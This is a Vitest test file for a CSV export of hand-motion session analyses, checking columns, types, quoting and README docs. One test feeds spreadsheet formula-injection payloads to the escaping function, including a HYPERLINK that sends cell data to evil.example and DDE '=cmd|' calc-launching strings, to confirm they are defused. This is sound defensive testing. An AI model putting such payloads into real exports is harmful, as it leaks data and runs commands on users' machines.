import { describe, expect, it } from 'vitest';
import { analysesCsv, ANALYSIS_COLUMNS, analysisRow, analyzeSession, csvCell, synthesizeSession, type AnalysisDoc } from '../src/index.js';

/** RFC 4180 records, read back the way a spreadsheet splits them (quotes, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = (): void => {
    record.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"') quoted = true;
    else if (c === ',') endCell();
    else if (c === '\r' && text[i + 1] === '\n') {
      endCell();
      records.push(record);
      record = [];
      i++;
    } else cell += c;
  }
  expect(cell, 'the text ends with a line end').toBe('');
  return records;
}

describe('analyses CSV', () => {
  const session = synthesizeSession({ seed: 31, durationS: 20, startedAt: '2026-11-02T09:30:00.000Z' });
  const analysis = analyzeSession(session);

  it('writes a header and one row per analysis with the documented columns', () => {
    const records = parseCsv(analysesCsv([analysis, analysis]));
    expect(records).toHaveLength(3);
    expect(records[0]).toEqual(ANALYSIS_COLUMNS.map((c) => c.name));
    const row = Object.fromEntries(records[0]!.map((name, i) => [name, records[1]![i]]));
    expect(row['sessionId']).toBe(session.id);
    expect(row['startedAt']).toBe('2026-11-02T09:30:00.000Z');
    expect(row['gameId']).toBe(session.gameId);
    expect(row['status']).toBe(analysis.status);
    expect(row['analysisVersion']).toBe(analysis.analysisVersion);
    expect(Number(row['rangeOfMotionDeg'])).toBe(analysis.metrics!.overall.rangeOfMotionDeg);
    expect(Number(row['index_sparc'])).toBe(analysis.metrics!.fingers.index.sparc);
    expect(Number(row['quality_missingShare'])).toBe(analysis.quality!.missingShare);
  });

  it('gives every column a unique Parquet-safe name and a type its values keep', () => {
    const names = ANALYSIS_COLUMNS.map((c) => c.name);
    expect(new Set(names).size).toBe(names.length);
    for (const column of ANALYSIS_COLUMNS) {
      expect(column.name).toMatch(/^[A-Za-z][A-Za-z0-9_]*$/);
      const value = column.value(analysis);
      if (value === null) continue;
      if (column.type === 'string') expect(typeof value, column.name).toBe('string');
      else expect(typeof value, column.name).toBe('number');
      if (column.type === 'integer') expect(Number.isInteger(value), column.name).toBe(true);
    }
  });

  it('leaves the metrics of an invalid analysis empty and names its reasons', () => {
    const invalid: AnalysisDoc = { ...analysis, status: 'invalid', metrics: null, quality: null, reasons: [{ code: 'too_short', message: 'x' }, { code: 'no_flex', message: 'y' }] };
    const [header, row] = parseCsv(analysesCsv([invalid])).map((r) => r);
    const cells = Object.fromEntries(header!.map((name, i) => [name, row![i]]));
    expect(cells['reasons']).toBe('too_short;no_flex');
    expect(cells['rangeOfMotionDeg']).toBe('');
    expect(cells['thumb_reactionTimeMs']).toBe('');
    expect(cells['quality_flags']).toBe('');
  });

  it('defuses text that a spreadsheet would run as a formula', () => {
    for (const hostile of ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+2', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1', '\r=1', '\0=1']) {
      const cell = csvCell(hostile);
      expect(cell.startsWith('"\''), JSON.stringify(hostile)).toBe(true);
      expect(parseCsv(`${cell}\r\n`)[0]).toEqual([`'${hostile}`]);
    }
    const forged = { ...analysis, session: { ...analysis.session!, gameId: '=cmd|"/c calc"!A1,evil' } };
    const records = parseCsv(analysesCsv([forged]));
    expect(records[1]).toHaveLength(ANALYSIS_COLUMNS.length);
    expect(records[1]![ANALYSIS_COLUMNS.findIndex((c) => c.name === 'gameId')]).toBe('\'=cmd|"/c calc"!A1,evil');
  });

  it('keeps numbers numbers, negative ones included, and quotes separators in text', () => {
    expect(csvCell(-3.25)).toBe('-3.25');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });

  it('writes the same row as analysisRow for each analysis', () => {
    const records = parseCsv(analysesCsv([analysis]));
    expect(records[1]).toEqual(analysisRow(analysis).map((v) => (v === null ? '' : String(v))));
  });
});

describe('analysis-core README', () => {
  it('documents every CSV column with its type', async () => {
    const { readFile } = await import('node:fs/promises');
    const readme = await readFile(new URL('../README.md', import.meta.url), 'utf8');
    for (const column of ANALYSIS_COLUMNS) {
      const name = column.name.replace(/^(thumb|index|middle|ring|little)_/, '<finger>_');
      expect(readme, column.name).toContain(`| \`${name}\` | ${column.type} |`);
    }
  });
});
